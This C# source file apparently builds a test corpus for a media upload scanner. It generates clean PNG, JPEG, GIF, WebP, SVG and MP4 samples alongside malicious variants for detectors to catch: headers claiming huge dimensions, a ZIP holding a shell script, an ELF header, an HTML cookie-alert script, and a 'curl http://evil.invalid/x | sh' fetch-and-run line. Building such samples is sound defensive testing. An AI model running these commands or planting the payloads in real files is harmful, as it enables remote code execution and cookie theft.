using System.Buffers.Binary;
using System.IO.Compression;
using System.IO.Hashing;
using System.Text;
using SkiaSharp;

namespace Parley.Testing.Scanning;

/// <summary>
/// The scanning tests' corpus, made on the spot (no downloads): clean pictures of every format Parley
/// shares, and the malicious variants each detector must catch. PNG, GIF, WebP VP8X and MP4 are built
/// byte by byte (so headers can lie); JPEG and lossless WebP are encoded by SkiaSharp.
/// </summary>
public static partial class MediaSamples
{
    public static readonly byte[] PngSignature = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A];

    /// <summary>A valid 8-bit greyscale PNG of <paramref name="width"/>×<paramref name="height"/>, with extra chunks before IDAT if given.</summary>
    public static byte[] Png(int width = 16, int height = 16, params (string Type, byte[] Data)[] extraChunks)
    {
        var rows = new byte[height * (width + 1)];
        for (var i = 0; i < rows.Length; i++) rows[i] = i % (width + 1) == 0 ? (byte)0 : (byte)(i * 7);
        using var compressed = new MemoryStream();
        using (var zlib = new ZLibStream(compressed, CompressionLevel.Fastest, leaveOpen: true)) zlib.Write(rows);
        return PngOf(Ihdr(width, height), [.. extraChunks, ("IDAT", compressed.ToArray())]);
    }

    /// <summary>
    /// A PNG whose IHDR claims <paramref name="width"/>×<paramref name="height"/> (a pixel flood when large),
    /// with a few bytes of image data: a decoder would allocate the claimed size before noticing.
    /// </summary>
    public static byte[] PngClaiming(int width, int height) =>
        PngOf(Ihdr(width, height), [("IDAT", [0x78, 0x01, 0x01, 0x00, 0x00, 0xFF, 0xFF, 0x00, 0x00, 0x00, 0x01])]);

    public static byte[] Chunk(string type, byte[] data)
    {
        var chunk = new byte[12 + data.Length];
        BinaryPrimitives.WriteUInt32BigEndian(chunk, (uint)data.Length);
        Encoding.ASCII.GetBytes(type, chunk.AsSpan(4));
        data.CopyTo(chunk, 8);
        BinaryPrimitives.WriteUInt32BigEndian(chunk.AsSpan(8 + data.Length), Crc32.HashToUInt32(chunk.AsSpan(4, 4 + data.Length)));
        return chunk;
    }

    public static byte[] Jpeg(int width = 32, int height = 24)
    {
        using var bitmap = new SKBitmap(width, height);
        bitmap.Erase(new SKColor(200, 40, 90));
        return bitmap.Encode(SKEncodedImageFormat.Jpeg, 80).ToArray();
    }

    /// <summary>
    /// A JPEG with an Exif APP1 segment that carries a whole thumbnail JPEG (its own SOI…EOI) right after
    /// SOI, as cameras write them: the outer picture's end is the last EOI, not the thumbnail's.
    /// </summary>
    public static byte[] JpegWithThumbnail()
    {
        var outer = Jpeg(64, 48);
        byte[] payload = [.. "Exif\0\0"u8, .. Jpeg(8, 6)];
        var app1 = new byte[4 + payload.Length];
        app1[0] = 0xFF;
        app1[1] = 0xE1;
        BinaryPrimitives.WriteUInt16BigEndian(app1.AsSpan(2), (ushort)(payload.Length + 2));
        payload.CopyTo(app1, 4);
        return [.. outer[..2], .. app1, .. outer[2..]];
    }

    /// <summary>A JPEG whose frame header (SOF0) claims <paramref name="width"/>×<paramref name="height"/>.</summary>
    public static byte[] JpegClaiming(ushort width, ushort height)
    {
        var jpeg = Jpeg();
        for (var i = 2; i < jpeg.Length - 9; i++)
            if (jpeg[i] == 0xFF && jpeg[i + 1] == 0xC0)
            {
                BinaryPrimitives.WriteUInt16BigEndian(jpeg.AsSpan(i + 5), height);
                BinaryPrimitives.WriteUInt16BigEndian(jpeg.AsSpan(i + 7), width);
                return jpeg;
            }
        throw new InvalidOperationException("SkiaSharp wrote no baseline SOF0.");
    }

    /// <summary>The classic one-pixel GIF89a, with its logical screen set to the size given.</summary>
    public static byte[] Gif(ushort screenWidth = 1, ushort screenHeight = 1, ushort frameWidth = 1, ushort frameHeight = 1)
    {
        byte[] gif = [.. "GIF89a"u8, 0, 0, 0, 0, 0x80, 0, 0, 0xFF, 0xFF, 0xFF, 0, 0, 0,
            0x2C, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x02, 0x02, 0x44, 0x01, 0x00, 0x3B];
        BinaryPrimitives.WriteUInt16LittleEndian(gif.AsSpan(6), screenWidth);
        BinaryPrimitives.WriteUInt16LittleEndian(gif.AsSpan(8), screenHeight);
        BinaryPrimitives.WriteUInt16LittleEndian(gif.AsSpan(24), frameWidth);
        BinaryPrimitives.WriteUInt16LittleEndian(gif.AsSpan(26), frameHeight);
        return gif;
    }

    /// <summary>A lossless WebP (VP8L) encoded by SkiaSharp.</summary>
    public static byte[] WebP(int width = 20, int height = 10)
    {
        using var bitmap = new SKBitmap(width, height);
        bitmap.Erase(new SKColor(10, 200, 90));
        return bitmap.Encode(SKEncodedImageFormat.Webp, 100).ToArray();
    }

    /// <summary>An extended WebP (VP8X) whose canvas claims <paramref name="width"/>×<paramref name="height"/>.</summary>
    public static byte[] WebPClaiming(int width, int height)
    {
        var vp8x = new byte[10];
        vp8x[4] = (byte)(width - 1); vp8x[5] = (byte)((width - 1) >> 8); vp8x[6] = (byte)((width - 1) >> 16);
        vp8x[7] = (byte)(height - 1); vp8x[8] = (byte)((height - 1) >> 8); vp8x[9] = (byte)((height - 1) >> 16);
        byte[] chunk = [.. "VP8X"u8, 10, 0, 0, 0, .. vp8x];
        var riff = new byte[12];
        "RIFF"u8.CopyTo(riff);
        BinaryPrimitives.WriteUInt32LittleEndian(riff.AsSpan(4), (uint)(4 + chunk.Length));
        "WEBP"u8.CopyTo(riff.AsSpan(8));
        return [.. riff, .. chunk];
    }

    public const string CleanSvgText =
        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"10\" height=\"10\">" +
        "<defs><linearGradient id=\"g\"/></defs><rect width=\"10\" height=\"10\" fill=\"url(#g)\"/><use xlink:href=\"#g\"/></svg>\n";

    public static byte[] Svg(string body = "") => Encoding.UTF8.GetBytes(CleanSvgText.Replace("</svg>", body + "</svg>", StringComparison.Ordinal));

    /// <summary>An MP4's top-level boxes: ftyp, moov (with an empty mvhd) and mdat. Enough for the structure walk; decoding is the server's.</summary>
    public static byte[] Mp4(string brand = "isom")
    {
        byte[] ftyp = Box("ftyp", [.. Encoding.ASCII.GetBytes(brand), 0, 0, 2, 0, .. "isomiso2mp41"u8]);
        byte[] moov = Box("moov", Box("mvhd", new byte[100]));
        byte[] mdat = Box("mdat", new byte[64]);
        return [.. ftyp, .. moov, .. mdat];
    }

    public static byte[] Box(string type, byte[] body)
    {
        var box = new byte[8 + body.Length];
        BinaryPrimitives.WriteUInt32BigEndian(box, (uint)box.Length);
        Encoding.ASCII.GetBytes(type, box.AsSpan(4));
        body.CopyTo(box, 8);
        return box;
    }

    /// <summary>A ZIP archive holding one small file.</summary>
    public static byte[] Zip()
    {
        using var memory = new MemoryStream();
        using (var zip = new ZipArchive(memory, ZipArchiveMode.Create, leaveOpen: true))
        using (var entry = zip.CreateEntry("payload.sh").Open())
            entry.Write("#!/bin/sh\necho owned\n"u8);
        return memory.ToArray();
    }

    /// <summary>The first 64 bytes of a 64-bit little-endian x86-64 ELF executable's header.</summary>
    public static byte[] ElfHeader()
    {
        var elf = new byte[64];
        byte[] ident = [0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0];
        ident.CopyTo(elf, 0);
        BinaryPrimitives.WriteUInt16LittleEndian(elf.AsSpan(16), 2);
        BinaryPrimitives.WriteUInt16LittleEndian(elf.AsSpan(18), 0x3E);
        return elf;
    }

    public static byte[] ShellScript => "#!/bin/sh\ncurl http://evil.invalid/x | sh\n"u8.ToArray();

    public static byte[] Html => "<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"u8.ToArray();

    private static byte[] Ihdr(int width, int height)
    {
        var ihdr = new byte[13];
        BinaryPrimitives.WriteUInt32BigEndian(ihdr, (uint)width);
        BinaryPrimitives.WriteUInt32BigEndian(ihdr.AsSpan(4), (uint)height);
        ihdr[8] = 8;
        return ihdr;
    }

    private static byte[] PngOf(byte[] ihdr, (string Type, byte[] Data)[] chunks) =>
        [.. PngSignature, .. Chunk("IHDR", ihdr), .. chunks.SelectMany(c => Chunk(c.Type, c.Data)), .. Chunk("IEND", [])];
}
